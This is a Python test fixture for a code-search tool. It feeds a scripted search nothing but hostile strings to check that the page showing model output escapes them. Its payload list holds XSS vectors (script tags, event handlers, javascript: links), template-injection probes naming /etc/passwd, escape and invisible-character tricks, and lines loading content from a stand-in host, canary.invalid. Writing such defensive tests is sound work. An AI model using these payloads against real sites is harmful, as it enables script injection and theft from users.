"""What a model may write to get into the page that shows it, and a search that is full of it."""

import unicodedata
from random import Random

from maxcode.budget import Budget, Call, Cost
from maxcode.evaluation import Evaluation, Interval, Measurement, Status
from maxcode.interfaces import Proposal, SearchPolicy
from maxcode.journal.journal import Journal
from maxcode.observation import Observation
from maxcode.program import Program
from maxcode.search.search import Search
from maxcode.task import Task
from maxcode.testing import ScriptedCritic, ScriptedExecutor, ScriptedGenerator
from maxcode.tree import Expansion, SearchTree

_RUN = "window.ran=true"
_SEND = "http://canary.invalid"

HOSTILE = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_SEND}/a.js></sCrIpT>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><script>{_RUN}</script>",
    "<!-- <script> -->",
    f"--><script>{_RUN}</script><!--",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src={_SEND}/b onerror="{_RUN}">',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}" tabindex="0',
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x>",
    f"<svg><style>@import '{_SEND}/c';</style></svg>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f'<a href="javascript:{_RUN}">click</a>',
    f"[click](javascript:{_RUN})",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<link rel=stylesheet href={_SEND}/d.css><base href={_SEND}/>",
    f'<meta http-equiv="refresh" content="0;url={_SEND}/e">',
    f"<form action={_SEND}/f><input autofocus onfocus={_RUN}><button>x</button></form>",
    f"</textarea></title></style></template><script>{_RUN}</script>",
    "{{ 7 * 7 }}{% raw %}{% include '/etc/passwd' %}{# #}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.ran=true')()}}",
    f'"}}]}};{_RUN};//',
    f'\\"}};{_RUN};//\\',
    f"'+({_RUN})+'`${{{_RUN}}}`",
    "\u2028\u2029" + _RUN + "\u0085\x0b\x0c",
    "\x1b[31mred\x1b[0m\x1b]8;;http://canary.invalid\x07link\x1b]8;;\x07\x1b[2J",
    "\x00\x01\x02\x08\x7f\x80\x9f\ufeff\ufffe\uffff",
    "\u202eelif a si siht\u202c \u2066left\u2069 \u200f\u061c "
    "\u200b\u2060\xad\ufe00\U000e0041\ue000\u3164\x9b31m",
    "half of a pair: \ud800 and \udfff",
    "&lt;script&gt;window.ran=true&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "wide " + "W" * 20_000,
    "z\u0351\u0369\u0363\u036f\u0334" * 500,
    "\n" * 200 + "far below",
    "<b>" * 2_000,
    "__proto__ constructor toString hasOwnProperty",
    "<extra></extra><br>%{y}%{customdata} <a href='javascript:window.ran=true'>x</a>",
    "\t \t" * 50 + "\r\r\n\n\r",
)
"""Markup, events, templates, ends of scripts and of JSON, controls, directions, and mere size."""


_EVERYTHING = "\n".join(text for text in HOSTILE if len(text) < 1000)
_BATCH = 6
_COST = Cost(tokens=10, dollars=0.01)  # of an answer


class _Chain(SearchPolicy):
    """Grows from the newest step, so that every step is shown and diagnosed."""

    def ask(self, tree: SearchTree, rng: Random) -> list[Expansion]:
        return [Expansion(len(tree) - 1, _BATCH)]


def hostile_search(journal: Journal) -> Search:
    """A search whose every text is hostile; each string is the summary of a step of its own."""
    path = "<img src=x onerror=window.ran=true>.cpp"
    first = Program({path: f"// 0\n{_whole(_EVERYTHING)}"}, path)

    def answers(observation: Observation, n: int) -> list[Proposal]:
        begun = _BATCH * observation.number
        return [_proposal(first, number) for number in range(begun, len(HOSTILE))[:n]]

    return Search(
        Task(f"{HOSTILE[2]} {HOSTILE[8]}", _whole(_EVERYTHING), first, language=HOSTILE[0]),
        generator=ScriptedGenerator(answers, _COST),
        executor=ScriptedExecutor(_verdict),
        critic=ScriptedCritic(lambda _, step: f"{step.summary}\n{_whole(_EVERYTHING)}"),
        policy=_Chain(),
        budget=Budget(evaluations=len(HOSTILE)),
        journal=journal,
    )


def _proposal(first: Program, number: int) -> Proposal:
    text = HOSTILE[number]
    return Proposal(
        first.with_code(f"// {number}\n{_whole(text)}\n{_whole(_EVERYTHING)}"),
        summary=_whole(text),
        tags=(_whole(text), _whole(_EVERYTHING)),
        prompt=_EVERYTHING,
        answer=text,
        cost=_COST,
        call=Call(_whole(text), "0" * 64, input=5, output=5, dollars=0.01),
    )


def _verdict(program: Program) -> Evaluation:
    number = int(program.code.split()[1])
    text = _whole(HOSTILE[number])
    if number % 3 == 2:
        return Evaluation(Status.BUILD_ERROR, feedback=text, details=_whole(_EVERYTHING))
    value = 1 + number / 10
    samples = (Measurement(text[:60], "s", (1 / value,) * 3),)
    speedup = Interval(value, value * 0.99, value * 1.01)
    return Evaluation(
        Status.OK, speedup, text, _whole(_EVERYTHING), measurements=samples, reference=samples
    )


def _whole(text: str) -> str:
    """Without half pairs, which only prompts and answers can hold."""
    return text.encode(errors="replace").decode()


def hidden(character: str) -> bool:
    """By the tables of Unicode, which :mod:`maxcode.text` does not ask."""
    separators = unicodedata.category(character) in ("Zl", "Zp")
    others = unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co")
    signs = "\u0600" <= character <= "\u08ff" or character in "\u200c\u200d\U000110bd\U000110cd"
    return (separators or others) and character not in "\n\t" and not signs
